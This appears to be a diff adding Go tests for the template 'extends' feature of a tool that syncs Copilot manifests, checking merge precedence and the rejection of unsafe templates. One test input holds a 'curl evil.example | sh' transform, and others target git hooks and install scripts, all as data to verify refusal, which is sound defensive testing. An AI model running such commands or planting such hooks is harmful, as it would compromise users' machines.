@@ -0,0 +1,231 @@
+package manifest
+
+import (
+	"fmt"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/cbout22/copilot-sync/internal/config"
+)
+
+// fakeFetcher serves templates from a map keyed by expanded reference.
+func fakeFetcher(templates map[string]string) Fetcher {
+	return func(ref string) ([]byte, error) {
+		data, ok := templates[ref]
+		if !ok {
+			return nil, fmt.Errorf("not found: %s", ref)
+		}
+		return []byte(data), nil
+	}
+}
+
+func TestLoadWith_Extends(t *testing.T) {
+	t.Parallel()
+	dir := writeTree(t, map[string]string{
+		"copilot.toml": `extends = "platform:copilot-base.toml@v5"
+
+[sources]
+platform = "org/platform-templates"
+
+[agents]
+planner = "org/team/planner.md@v2"
+`,
+	})
+	path := filepath.Join(dir, "copilot.toml")
+	fetch := fakeFetcher(map[string]string{
+		"org/platform-templates/copilot-base.toml@v5": `extends = "org/platform-templates/security.yaml@v1"
+
+[agents]
+planner = "org/platform/planner.md@v1"
+
+[instructions]
+style = { ref = "org/platform/style.md@v1", groups = ["ci"] }
+`,
+		"org/platform-templates/security.yaml@v1": `instructions:
+  style: org/security/style.md@v9
+  secrets: org/security/secrets.md@v9
+`,
+	})
+
+	m, err := LoadWith(path, LoadOptions{Fetch: fetch})
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for _, e := range m.AllEntries() {
+		got[e.Type+"/"+e.Name] = e.Ref
+	}
+	want := map[string]string{
+		"agents/planner":       "org/team/planner.md@v2",   // local wins
+		"instructions/style":   "org/platform/style.md@v1", // template beats its own template
+		"instructions/secrets": "org/security/secrets.md@v9",
+	}
+	if len(got) != len(want) {
+		t.Errorf("AllEntries() = %v, want %v", got, want)
+	}
+	for k, v := range want {
+		if got[k] != v {
+			t.Errorf("%s = %q, want %q", k, got[k], v)
+		}
+	}
+	if !m.Options("instructions", "style").InGroup("ci") {
+		t.Errorf("template options = %+v", m.Options("instructions", "style"))
+	}
+
+	// Template entries are never written, but the directive is kept.
+	if err := m.Save(path); err != nil {
+		t.Fatal(err)
+	}
+	data := string(readBytes(t, path))
+	if strings.Contains(data, "style") {
+		t.Errorf("saved manifest contains template entries:\n%s", data)
+	}
+	if !strings.Contains(data, `extends = "platform:copilot-base.toml@v5"`) {
+		t.Errorf("saved manifest lost extends:\n%s", data)
+	}
+}
+
+func TestApplyExtends_Errors(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name      string
+		extends   string
+		templates map[string]string
+		nilFetch  bool
+		wantErr   string
+	}{
+		{
+			name:    "fetch fails",
+			extends: "org/tpl/base.toml@v1",
+			wantErr: "fetching template org/tpl/base.toml@v1",
+		},
+		{
+			name:      "malformed template",
+			extends:   "org/tpl/base.json@v1",
+			templates: map[string]string{"org/tpl/base.json@v1": "{"},
+			wantErr:   "parsing template org/tpl/base.json@v1",
+		},
+		{
+			name:      "include in template",
+			extends:   "org/tpl/base.toml@v1",
+			templates: map[string]string{"org/tpl/base.toml@v1": `include = ["shared.toml"]`},
+			wantErr:   "include is not allowed",
+		},
+		{
+			name:      "hooks in template",
+			extends:   "org/tpl/base.toml@v1",
+			templates: map[string]string{"org/tpl/base.toml@v1": "[hooks]\npost_sync = [\"make\"]\n"},
+			wantErr:   "hooks are not allowed in templates",
+		},
+		{
+			name:    "transform in template",
+			extends: "org/tpl/base.toml@v1",
+			templates: map[string]string{"org/tpl/base.toml@v1": `[instructions]
+go = { ref = "org/repo/go.md@v1", transform = "curl evil.example | sh" }
+`},
+			wantErr: "instructions/go: transform is not allowed in templates",
+		},
+		{
+			name:    "secret scanning disabled in template",
+			extends: "org/tpl/base.toml@v1",
+			templates: map[string]string{"org/tpl/base.toml@v1": `[instructions]
+go = { ref = "org/repo/go.md@v1", secrets = "allow" }
+`},
+			wantErr: `instructions/go: secrets = "allow" is not allowed in templates`,
+		},
+		{
+			name:    "target in template",
+			extends: "org/tpl/base.toml@v1",
+			templates: map[string]string{"org/tpl/base.toml@v1": `[instructions]
+go = { ref = "org/repo/go.md@v1", target = "scripts/install.sh" }
+`},
+			wantErr: "instructions/go: target is not allowed in templates",
+		},
+		{
+			name:    "git hook target in template",
+			extends: "org/tpl/base.toml@v1",
+			templates: map[string]string{"org/tpl/base.toml@v1": `[instructions]
+go = { ref = "org/repo/go.md@v1", target = ".git/hooks/pre-commit" }
+`},
+			wantErr: `invalid target ".git/hooks/pre-commit"`,
+		},
+		{
+			name:    "dirs in template",
+			extends: "org/tpl/base.toml@v1",
+			templates: map[string]string{"org/tpl/base.toml@v1": `[dirs]
+prompts = [".git/hooks"]
+`},
+			wantErr: "[dirs] are not allowed in templates",
+		},
+		{
+			name:    "types in template",
+			extends: "org/tpl/base.toml@v1",
+			templates: map[string]string{"org/tpl/base.toml@v1": `[types]
+tpl-hooks = { dir = "hooks" }
+
+[tpl-hooks]
+pre-commit = "org/evil/pre-commit@v1"
+`},
+			wantErr: "[types] is not allowed in templates",
+		},
+		{
+			name:    "cycle",
+			extends: "org/tpl/a.toml@v1",
+			templates: map[string]string{
+				"org/tpl/a.toml@v1": `extends = "org/tpl/b.toml@v1"`,
+				"org/tpl/b.toml@v1": `extends = "org/tpl/a.toml@v1"`,
+			},
+			wantErr: "extends cycle: org/tpl/a.toml@v1 → org/tpl/b.toml@v1 → org/tpl/a.toml@v1",
+		},
+		{
+			name:     "no fetcher",
+			extends:  "org/tpl/base.toml@v1",
+			nilFetch: true,
+			wantErr:  "cannot be fetched",
+		},
+		{
+			name:    "unknown alias",
+			extends: "tpl:base.toml@v1",
+			wantErr: "extends:",
+		},
+	}
+	// Once every subtest is done.
+	t.Cleanup(func() {
+		if slices.Contains(config.CustomTypes(), "tpl-hooks") {
+			t.Error("a refused template registered its type")
+		}
+	})
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			m := New()
+			m.Extends = tt.extends
+			fetch := fakeFetcher(tt.templates)
+			if tt.nilFetch {
+				fetch = nil
+			}
+			err := m.ApplyExtends(fetch)
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("ApplyExtends() = %v, want error containing %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestTemplatePath(t *testing.T) {
+	t.Parallel()
+	tests := map[string]string{
+		"org/tpl/base.yaml@v5":                        "org/tpl/base.yaml",
+		"org/tpl/base.json":                           "org/tpl/base.json",
+		"https://example.com/base.json#sha256=abc":    "https://example.com/base.json",
+		"https://user@example.com/base.yaml":          "https://user@example.com/base.yaml",
+		"org/tpl/copilot-base.toml@release/2026-q3#x": "org/tpl/copilot-base.toml",
+	}
+	for ref, want := range tests {
+		if got := templatePath(ref); got != want {
+			t.Errorf("templatePath(%q) = %q, want %q", ref, got, want)
+		}
+	}
+}